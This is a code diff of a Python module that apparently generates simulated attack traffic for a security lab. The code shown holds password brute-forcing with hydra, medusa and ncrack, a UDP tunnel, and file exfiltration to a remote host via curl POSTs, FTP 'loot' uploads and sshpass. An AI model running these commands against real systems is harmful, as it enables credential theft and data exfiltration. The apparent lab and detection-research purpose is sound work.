@@ -2,14 +2,21 @@
 
 from __future__ import annotations
 
-import socket
 import subprocess
 from base64 import b32encode, b64encode
 from collections.abc import Callable
 from contextlib import suppress
 from typing import Any
 
-from evenflow.lab._steps import fetch, ftp_login, http_connection, mqtt_connect, ssh
+from evenflow.lab._steps import (
+    fetch,
+    ftp_login,
+    http_connection,
+    in_url,
+    mqtt_connect,
+    six,
+    ssh,
+)
 from evenflow.lab.doing import Doing
 from evenflow.lab.handlers import TAKES_PORT
 from evenflow.lab.words import DOMAIN, GUESSES, TOPICS, USERS
@@ -42,13 +49,14 @@ def guess_by(tool: str, kind: str) -> Callable[[Doing], bool]:
         d.note(at_once=at_once, user=user)
         commands = {
             "hydra": ["hydra", "-I", "-l", user, "-P", words, "-t", at_once, "-s", port,
-                      "-W", d.rng.choice([1, 2, 3]), ip,
+                      "-W", d.rng.choice([1, 2, 3]), *six(ip), ip,
                       *({"http": ["http-get", "/private/"]}.get(kind, [kind]))],
             "medusa": ["medusa", "-h", ip, "-u", user, "-P", words, "-t", at_once,
                        "-n", port, "-M", kind,
                        *(["-m", "DIR:/private/"] if kind == "http" else [])],
             "ncrack": ["ncrack", "--user", user, "-P", words, "-g",
-                       f"CL={at_once},at={d.rng.randint(1, 4)}", f"{kind}://{ip}:{port}"],
+                       f"CL={at_once},at={d.rng.randint(1, 4)}",
+                       f"{kind}://{ip}:{port}"],
         }  # fmt: skip
         d.run(*commands[tool], seconds=30)
         said = d.outputs[-1]
@@ -219,7 +227,7 @@ def one_port_tunnel(d: Doing) -> bool:
     kind = d.rng.choice([1, 5, 10, 15, 16])
     d.note(length=length, kind=kind)
     found = 0
-    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as here:
+    with d.udp() as here:
         here.settimeout(0.5)
         here.connect(at)
         for i in range(d.times(40, 800)):
@@ -292,11 +300,14 @@ def carry_out(how: str) -> Callable[[Doing], bool]:
         done = 0
         for i in range(pieces):
             if how == "http":
-                done += d.run("curl", "-s", "-o", "/dev/null", "--data-binary",
-                              f"@{path}", f"http://{ip}:{port}/c/{i}") == 0  # fmt: skip
+                done += d.run("curl", "-s", "-o", "/dev/null",
+                              "--data-binary", f"@{path}",
+                              f"http://{in_url(ip)}:{port}/c/{i}") == 0  # fmt: skip
             elif how == "ftp":
-                done += d.run("curl", "-s", "-T", path, "-u", f"{user}:{word}",
-                              f"ftp://{ip}:{port}/loot{i % 9}") == 0  # fmt: skip
+                done += d.run("curl", "-s", "-T", path, "-u",
+                              f"{user}:{word}",
+                              f"ftp://{in_url(ip)}:{port}/loot{i % 9}",
+                              ) == 0  # fmt: skip
             else:
                 d.run("sh", "-c", f"sshpass -p '{word}' ssh -p {port} -F /dev/null "
                       "-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null "
